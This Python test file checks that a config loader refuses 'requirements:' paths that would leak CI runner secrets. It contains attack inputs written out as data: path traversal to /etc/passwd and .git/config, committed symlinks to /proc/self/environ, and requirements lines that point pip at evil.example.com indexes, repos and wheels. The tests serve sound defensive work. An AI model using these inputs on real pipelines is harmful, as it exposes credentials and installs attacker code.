"""Issue 11.1: `requirements:` reads only what it should.

The attack: one YAML line (and maybe one symlink) in a pull request makes the program read a
file of the runner (`.git/config`, `/proc/self/environ`) into the PIP_REQUIREMENTS build arg,
which CI then prints in the plan-diff comment. Each case below performs it against a scratch
git checkout (config.references.PROJECT_ROOT pointed at it) and expects a ConfigError at the
key, with none of the file's content in the message.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

import config.references
from config import ConfigError, load
from config.requirements_file import MAX_BYTES, read_requirements
from devtools.stack_config import Secret

from .harness import minimal_config
from .project_copy import copy_project, run_copy
from .test_fuzz_config import cli_values

IMAGE_KEY = "images.jupyter.requirements"
NOTEBOOK_KEY = "teams.data.notebooks[0].requirements"
CANARY = "CANARY-not-for-your-eyes-31337"


def git(root: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)


@pytest.fixture
def repo(tmp_path, monkeypatch) -> Path:
    """A git checkout with one good requirements file and a planted secret in .git/config."""
    root = tmp_path / "repo"
    (root / "requirements").mkdir(parents=True)
    (root / "requirements" / "good.txt").write_text("pandas==2.2.3\n")
    git(root, "init", "-q")
    git(root, "config", "remote.origin.url", f"https://user:{CANARY}@git.example.com/x.git")
    git(root, "add", "-A")
    monkeypatch.setattr(config.references, "PROJECT_ROOT", root)
    return root


def load_with(requirements: str, where: str = "image") -> ConfigError | None:
    if where == "image":
        stack = minimal_config(images={"jupyter": {"type": "jupyter", "requirements": requirements}})
    else:
        stack = minimal_config(
            teams={"data": {"notebooks": [{"name": "lab", "type": "jupyter", "requirements": requirements}]}}
        )
    try:
        load(cli_values(stack))
    except ConfigError as error:
        return error
    return None


def refused(requirements: str, where: str = "image") -> str:
    """The one problem's message for `requirements`; asserts it names the key and leaks nothing."""
    error = load_with(requirements, where)
    assert error is not None, f"{requirements!r} was accepted"
    assert [p.path for p in error.problems] == [IMAGE_KEY if where == "image" else NOTEBOOK_KEY], str(error)
    assert CANARY not in str(error) and "pandas" not in str(error)
    assert len(str(error)) < 600
    return error.problems[0].message


def test_the_good_file_is_read(repo):
    """The baseline: a tracked regular UTF-8 file is accepted and read."""
    assert load_with("requirements/good.txt") is None
    assert load_with("requirements/good.txt", where="notebook") is None
    assert read_requirements(repo, "requirements/good.txt") == "pandas==2.2.3\n"


@pytest.mark.parametrize("path", [".git/config", "requirements/../.git/config", ".GIT/config", "a/.git/HEAD"])
@pytest.mark.parametrize("where", ["image", "notebook"])
def test_git_directory_is_never_read(repo, path, where):
    """`.git/config` (remote URLs with tokens) is refused by its spelling, however written."""
    refused(path, where)


@pytest.mark.parametrize(
    "path",
    [
        "../x.txt",
        "requirements/../../x.txt",
        "/etc/passwd",
        "./requirements/good.txt",
        "requirements//good.txt",
        "requirements\\good.txt",
        "requirements/good.txt\n",
    ],
)
def test_paths_outside_or_unnormalised_are_refused(repo, path):
    """No `..` escape, no absolute path, no `.`/empty segment, no backslash, no control character."""
    refused(path)


def test_a_5000_character_path_is_a_config_error(repo):
    """A huge path is refused by its length, before any
    file-system call (no OSError), and not echoed whole.
    """
    message = refused("a/" * 2500)
    assert "longer than 255" in message


def test_tracked_symlink_to_proc_environ_is_refused(repo, monkeypatch):
    """A committed symlink to /proc/self/environ is refused; the environment is never read."""
    monkeypatch.setenv("PULUMI_CONFIG_PASSPHRASE", CANARY)
    os.symlink("/proc/self/environ", repo / "requirements" / "env.txt")
    git(repo, "add", "-A")
    assert "symlink" in refused("requirements/env.txt")
    assert "symlink" in refused("requirements/env.txt", where="notebook")


def test_symlinked_directory_is_refused(repo):
    """A path through a symlinked directory (`proc -> /proc/self`) is refused at that level."""
    os.symlink("/proc/self", repo / "proc")
    git(repo, "add", "-A")
    assert "symlink" in refused("proc/environ")


def test_untracked_file_is_refused(repo):
    """A file that exists but is not tracked by git (e.g. dropped in by a build step) is refused."""
    (repo / "requirements" / "new.txt").write_text("numpy\n")
    assert "not tracked" in refused("requirements/new.txt")


def test_pathspec_magic_does_not_match_other_files(repo):
    """A path spelled as a glob is a literal: `*.txt` names a file called `*.txt`, not good.txt."""
    (repo / "requirements" / "*.txt").write_text("numpy\n")  # untracked, so refused
    assert "not tracked" in refused("requirements/*.txt")
    assert "not tracked" in refused("requirements/:(glob)*.txt") or "not found" in refused(
        "requirements/:(glob)*.txt"
    )


def test_binary_file_is_a_config_error(repo):
    """A tracked binary file is refused as not UTF-8 (no UnicodeDecodeError escapes); NUL bytes too."""
    (repo / "requirements" / "blob.txt").write_bytes(b"\xff\xfe\x00binary\x80")
    (repo / "requirements" / "nul.txt").write_bytes(b"pandas\x00\n")
    git(repo, "add", "-A")
    assert "not UTF-8" in refused("requirements/blob.txt")
    assert "not text" in refused("requirements/nul.txt")


def test_size_limit_is_64_kib(repo):
    """Exactly 64 KiB is read; one byte more is refused."""
    (repo / "requirements" / "max.txt").write_text("#" * (MAX_BYTES - 1) + "\n")
    (repo / "requirements" / "big.txt").write_text("#" * MAX_BYTES + "\n")
    git(repo, "add", "-A")
    assert load_with("requirements/max.txt") is None
    assert "bytes" in refused("requirements/big.txt")


def test_directory_and_missing_file_are_refused(repo):
    """A directory is not a regular file; a missing file is 'not found'."""
    assert "not a regular file" in refused("requirements")
    assert "not found" in refused("requirements/nope.txt")


def test_not_a_git_checkout_is_refused(tmp_path, monkeypatch):
    """Without git's index there is no telling what is committed: refused, saying why."""
    (tmp_path / "r.txt").write_text("pandas\n")
    monkeypatch.setattr(config.references, "PROJECT_ROOT", tmp_path)
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path.parent))
    assert "not a git checkout" in refused("r.txt")


def test_whole_program_refuses_the_symlink_attack(tmp_path, monkeypatch):
    """End to end in a copy of the project (a fresh interpreter, cwd = the copy, as `pulumi up`):
    the committed symlink gives a ConfigError, nothing is registered, the environment is not read."""
    monkeypatch.setenv("PULUMI_CONFIG_PASSPHRASE", CANARY)
    root = copy_project(tmp_path / "teamspace")
    os.symlink("/proc/self/environ", root / "leak.txt")
    git(root, "add", "-A")
    stack = minimal_config(
        images={"jupyter": {"type": "jupyter", "requirements": "leak.txt"}},
        registryPassword=Secret("pw-123456"),
    )
    result = run_copy(root, stack)
    assert result.registrations == []
    assert "ConfigError" in repr(result.error) and f"teamspace:{IMAGE_KEY}" in str(result.error)
    assert CANARY not in str(result.error)


@pytest.mark.parametrize(
    "text,line",
    [
        ("numpy\n--index-url http://evil.example.com/simple\n", 2),
        ("--extra-index-url=http://evil.example.com/simple\n", 1),
        ("# header\n-r /etc/passwd\n", 2),
        ("-e git+https://evil.example.com/x.git#egg=x\n", 1),
        ("numpy \\\n  --trusted-host evil.example.com\n", 1),
        ("x @ https://evil.example.com/x.whl\n", 1),
        ("numpy\n\nnot a spec!\n", 3),
    ],
)
def test_pip_options_inside_the_file_are_refused(repo, text, line):
    """A tracked file is read only if it holds package specs: pip would honour `--index-url`,
    `-r`, `-e` or a URL inside it as on the command line. The message gives the line, not its text."""
    (repo / "requirements" / "opts.txt").write_text(text)
    git(repo, "add", "-A")
    message = refused("requirements/opts.txt")
    assert f"line {line} " in message and "evil" not in message and "passwd" not in message


def test_hashes_comments_and_markers_are_fine(repo):
    """pip's hash-checking mode (`--hash` on a continuation line), comments and markers pass."""
    (repo / "requirements" / "hashed.txt").write_text(
        "# pinned\nnumpy==2.1.0 \\\n    --hash=sha256:" + "ab" * 32 + "\n"
        'tomli==2.0.1; python_version < "3.11"  # backport\n\n'
    )
    git(repo, "add", "-A")
    assert load_with("requirements/hashed.txt") is None
